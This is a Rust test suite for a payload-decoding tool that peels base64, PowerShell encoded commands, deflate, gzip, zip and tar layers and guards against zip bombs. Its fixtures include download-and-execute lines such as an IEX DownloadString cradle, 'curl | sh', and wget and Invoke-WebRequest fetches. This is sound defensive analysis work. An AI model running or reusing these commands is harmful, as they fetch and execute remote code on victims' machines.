use std::io::Write;

use base64::Engine;
use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};

use super::*;

fn utf16le(text: &str) -> Vec<u8> {
    text.encode_utf16().flat_map(u16::to_le_bytes).collect()
}

fn gzip(bytes: &[u8]) -> Vec<u8> {
    let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    encoder.write_all(bytes).unwrap();
    encoder.finish().unwrap()
}

fn deflate(bytes: &[u8]) -> Vec<u8> {
    let mut encoder =
        flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::default());
    encoder.write_all(bytes).unwrap();
    encoder.finish().unwrap()
}

/// Builds a zip archive with stored members.
fn stored_zip(members: &[(&str, &[u8])]) -> Vec<u8> {
    build_zip(members, false)
}

/// Builds a zip archive whose members are stored or, with `deflated`, compressed.
fn build_zip(members: &[(&str, &[u8])], deflated: bool) -> Vec<u8> {
    let mut out = Vec::new();
    let mut central = Vec::new();
    for (name, plain) in members {
        let offset = out.len() as u32;
        let mut crc = flate2::Crc::new();
        crc.update(plain);
        let packed = if deflated {
            deflate(plain)
        } else {
            plain.to_vec()
        };
        let data = &packed;
        let method: u16 = if deflated { 8 } else { 0 };
        let mut header = Vec::new();
        header.extend_from_slice(&20u16.to_le_bytes());
        header.extend_from_slice(&0u16.to_le_bytes());
        header.extend_from_slice(&method.to_le_bytes());
        header.extend_from_slice(&[0; 4]);
        header.extend_from_slice(&crc.sum().to_le_bytes());
        header.extend_from_slice(&(data.len() as u32).to_le_bytes());
        header.extend_from_slice(&(plain.len() as u32).to_le_bytes());
        header.extend_from_slice(&(name.len() as u16).to_le_bytes());
        header.extend_from_slice(&0u16.to_le_bytes());
        out.extend_from_slice(b"PK\x03\x04");
        out.extend_from_slice(&header);
        out.extend_from_slice(name.as_bytes());
        out.extend_from_slice(data);
        central.extend_from_slice(b"PK\x01\x02");
        central.extend_from_slice(&20u16.to_le_bytes());
        central.extend_from_slice(&header);
        central.extend_from_slice(&[0; 10]);
        central.extend_from_slice(&offset.to_le_bytes());
        central.extend_from_slice(name.as_bytes());
    }
    let central_offset = out.len() as u32;
    out.extend_from_slice(&central);
    out.extend_from_slice(b"PK\x05\x06");
    out.extend_from_slice(&[0; 4]);
    out.extend_from_slice(&(members.len() as u16).to_le_bytes());
    out.extend_from_slice(&(members.len() as u16).to_le_bytes());
    out.extend_from_slice(&(central.len() as u32).to_le_bytes());
    out.extend_from_slice(&central_offset.to_le_bytes());
    out.extend_from_slice(&0u16.to_le_bytes());
    out
}

#[test]
fn encoded_command_utf16le() {
    let script = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')";
    let line = format!(
        "powershell.exe -nop -w hidden -enc {}",
        STANDARD.encode(utf16le(script))
    );
    let report = decode(line.as_bytes());
    let child = &report.root.children[0];
    assert_eq!(child.encoding, Encoding::PowershellEncodedCommand);
    assert_eq!(child.text.as_deref(), Some(script));
    assert_eq!(child.file_type, "utf-16le-text");
    assert_eq!(
        &line[child.start..child.end],
        STANDARD.encode(utf16le(script))
    );
}

#[test]
fn url_safe_base64_without_padding() {
    let payload = "curl http://example.com/x?a=1 | sh";
    let report = decode(format!("run {}", URL_SAFE_NO_PAD.encode(payload)).as_bytes());
    assert_eq!(report.root.children.len(), 1);
    assert_eq!(report.root.children[0].text.as_deref(), Some(payload));
}

#[test]
fn deflatestream_idiom() {
    let script = "Write-Host 'inflated from a raw deflate stream'";
    let line = format!(
        "IEX (New-Object IO.StreamReader(New-Object IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String('{}'),[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()",
        STANDARD.encode(deflate(script.as_bytes()))
    );
    let report = decode(line.as_bytes());
    let base64 = &report.root.children[0];
    assert_eq!(base64.encoding, Encoding::Base64);
    assert_eq!(base64.children[0].encoding, Encoding::Deflate);
    assert_eq!(base64.children[0].text.as_deref(), Some(script));
}

#[test]
fn char_code_forms() {
    for input in [
        "[char]72+[char]105+[char]33",
        "(72,105,33)|%{[char]$_}",
        "(72, 105, 33) | ForEach-Object { [char]$_ }",
        "String.fromCharCode(72,105,33)",
        "[char[]](72,105,33) -join ''",
    ] {
        let report = decode(input.as_bytes());
        assert_eq!(report.root.children.len(), 1, "{input}");
        assert_eq!(
            report.root.children[0].encoding,
            Encoding::CharCodes,
            "{input}"
        );
        assert_eq!(
            report.root.children[0].text.as_deref(),
            Some("Hi!"),
            "{input}"
        );
    }
}

#[test]
fn hex_forms() {
    for input in [
        "48656c6c6f2c20776f726c64",
        "\\x48\\x65\\x6c\\x6c\\x6f",
        "0x48,0x65,0x6c,0x6c,0x6f",
    ] {
        let report = decode(input.as_bytes());
        assert_eq!(report.root.children.len(), 1, "{input}");
        assert_eq!(report.root.children[0].encoding, Encoding::Hex, "{input}");
        assert!(
            report.root.children[0]
                .text
                .as_deref()
                .unwrap()
                .starts_with("Hello"),
            "{input}"
        );
    }
}

#[test]
fn sha256_hex_is_not_decoded() {
    let report = decode(b"hash e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855");
    assert!(report.root.children.is_empty());
}

#[test]
fn zip_members_listed_and_decoded() {
    let archive = stored_zip(&[
        ("run.ps1", b"Invoke-WebRequest http://203.0.113.9/p"),
        ("readme.txt", b"hello"),
    ]);
    let report = decode(STANDARD.encode(&archive).as_bytes());
    let zip = &report.root.children[0];
    assert_eq!(zip.file_type, "zip");
    let names: Vec<_> = zip
        .children
        .iter()
        .map(|c| c.name.clone().unwrap())
        .collect();
    assert_eq!(names, ["run.ps1", "readme.txt"]);
    assert_eq!(
        zip.children[0].text.as_deref(),
        Some("Invoke-WebRequest http://203.0.113.9/p")
    );
}

#[test]
fn tar_members_listed() {
    let mut builder = tar::Builder::new(Vec::new());
    let data = b"wget http://192.0.2.1/x -O /tmp/x";
    let mut header = tar::Header::new_gnu();
    header.set_size(data.len() as u64);
    header.set_mode(0o644);
    header.set_cksum();
    builder
        .append_data(&mut header, "drop.sh", &data[..])
        .unwrap();
    let archive = builder.into_inner().unwrap();
    let report = decode(STANDARD.encode(gzip(&archive)).as_bytes());
    let gz = &report.root.children[0].children[0];
    assert_eq!(gz.encoding, Encoding::Gzip);
    assert_eq!(gz.file_type, "tar");
    assert_eq!(gz.children[0].name.as_deref(), Some("drop.sh"));
    assert_eq!(
        gz.children[0].text.as_deref(),
        Some("wget http://192.0.2.1/x -O /tmp/x")
    );
}

#[test]
fn hashes_of_decoded_bytes() {
    let report = decode(STANDARD.encode("hello world, this is text").as_bytes());
    let child = &report.root.children[0];
    assert_eq!(child.md5.len(), 32);
    assert_eq!(child.sha1.len(), 40);
    // SHA-256 of "hello world, this is text" as computed by sha256sum.
    assert_eq!(
        child.sha256,
        "3728b8f5c1a6f649866867f5161ad28a28087cfc0380246d2d17679e91307316"
    );
    assert_eq!(
        magic::Hashes::of(b"").md5,
        "d41d8cd98f00b204e9800998ecf8427e"
    );
    assert_eq!(
        magic::Hashes::of(b"").sha1,
        "da39a3ee5e6b4b0d3255bfef95601890afd80709"
    );
}

#[test]
fn hostile_bytes_do_not_panic() {
    let mut seed = 0x2545_f491_4f6c_dd1du64;
    for length in 0..300 {
        let bytes: Vec<u8> = (0..length)
            .map(|_| {
                seed ^= seed << 13;
                seed ^= seed >> 7;
                seed ^= seed << 17;
                seed as u8
            })
            .collect();
        for prefix in [
            &b""[..],
            b"\x1f\x8b",
            b"PK\x03\x04",
            b"x\x9c",
            b"PK\x05\x06",
        ] {
            let mut input = prefix.to_vec();
            input.extend_from_slice(&bytes);
            decode(&input);
            decode(STANDARD.encode(&input).as_bytes());
        }
    }
}

#[test]
fn truncated_zip_reports_malformed() {
    let archive = stored_zip(&[("a.txt", b"some text in the member")]);
    let report = decode(&archive[..archive.len() - 10]);
    assert!(report.root.children.is_empty());
    assert_eq!(report.limits[0].kind, "malformed");
}

#[test]
fn zip_bomb_stops_at_limit() {
    let zeros = vec![0u8; 4 * 1024 * 1024];
    let archive = build_zip(&[("a.bin", &zeros), ("b.bin", &zeros)], true);
    assert!(archive.len() < 20_000, "{}", archive.len());
    let options = DecodeOptions {
        max_total_bytes: 1_000_000,
        ..DecodeOptions::default()
    };
    let report = decode_with(&archive, options);

    assert_eq!(report.total_decoded_bytes, 1_000_000);
    assert_eq!(report.root.children.len(), 1);
    assert!(report.root.children[0].truncated);
    assert_eq!(report.root.children[0].size, 1_000_000);
    assert_eq!(report.limits.len(), 1);
    assert_eq!(report.limits[0].kind, "max-total-bytes");
}

#[test]
fn deflated_zip_member_decoded() {
    let script = b"Invoke-Expression (iwr http://198.51.100.3/s)";
    let report = decode(&build_zip(&[("s.ps1", script)], true));
    assert_eq!(report.root.children[0].name.as_deref(), Some("s.ps1"));
    assert_eq!(
        report.root.children[0].text.as_deref().map(str::as_bytes),
        Some(&script[..])
    );
}

#[test]
fn random_tokens_not_decoded() {
    // Session ids and hashes are random base64 and hex: none of them should become a layer.
    let mut seed = 0x9e37_79b9_7f4a_7c15u64;
    let mut text = String::new();
    for line in 0..3000 {
        let bytes: Vec<u8> = (0..30)
            .map(|_| {
                seed ^= seed << 13;
                seed ^= seed >> 7;
                seed ^= seed << 17;
                seed as u8
            })
            .collect();
        let hex: String = bytes[..16]
            .iter()
            .map(|byte| format!("{byte:02x}"))
            .collect();
        text.push_str(&format!(
            "host{line} token={} md5={hex}\n",
            STANDARD.encode(&bytes)
        ));
    }
    let report = decode(text.as_bytes());
    assert_eq!(report.layers, 0, "{:?}", report.root.children.first());
}
